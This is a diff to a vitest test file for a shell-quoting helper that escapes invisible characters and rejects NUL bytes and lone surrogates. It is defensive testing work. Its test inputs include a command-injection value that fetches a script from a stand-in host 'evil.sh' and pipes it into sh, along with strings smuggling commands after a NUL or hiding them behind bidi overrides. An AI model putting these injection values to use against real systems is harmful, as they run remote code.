@@ -1,7 +1,7 @@
 import fc from 'fast-check';
 import { describe, expect, it } from 'vitest';
 import { spawnSync } from 'node:child_process';
-import { showInvisible, shownId, shellWord } from '../src/visible.js';
+import { showInvisible, shownId, shellWord, shellWordable } from '../src/visible.js';
 
 const INVISIBLE = /[\p{Cc}\p{Cf}\p{Cs}\p{Zl}\p{Zp}\p{Default_Ignorable_Code_Point}\u2800\u00a0\u1680\u2000-\u200a\u202f\u205f\u3000]/u;
 /** Strings rich in what an agent would hide things with. */
@@ -113,6 +113,17 @@ describe('shellWord', () => {
     expect(shellWord("i1'; curl evil.sh|sh; echo '")).toBe(`'i1'\\''; curl evil.sh|sh; echo '\\'''`);
     expect(shellWord('a\n[ctrlrun] forged\u202eEVIL')).toBe("$'a\\x0a[ctrlrun] forged\\u202eEVIL'");
     expect(shellWord('')).toBe("''");
+    // zsh expands a word that starts with '=' to a command's path.
+    expect(shellWord('=ls')).toBe("'=ls'");
+    expect(shellWord('a=b')).toBe('a=b');
+  });
+
+  it('refuses what no argument can carry: a NUL (a shell would end the argument there, naming another key) or a lone surrogate', () => {
+    for (const text of ['refund:txn_1\u0000; evil', 'x\ud800', '\udfffy']) {
+      expect(shellWordable(text)).toBe(false);
+      expect(() => shellWord(text)).toThrow(/NUL or a lone surrogate/);
+    }
+    expect(shellWordable('pay\u{1f600}')).toBe(true);
   });
 
   it.runIf(hasBash)('bash reads each word back as exactly the key: quotes, ;, |, $, backticks, line breaks, bidi overrides, astral characters', () => {
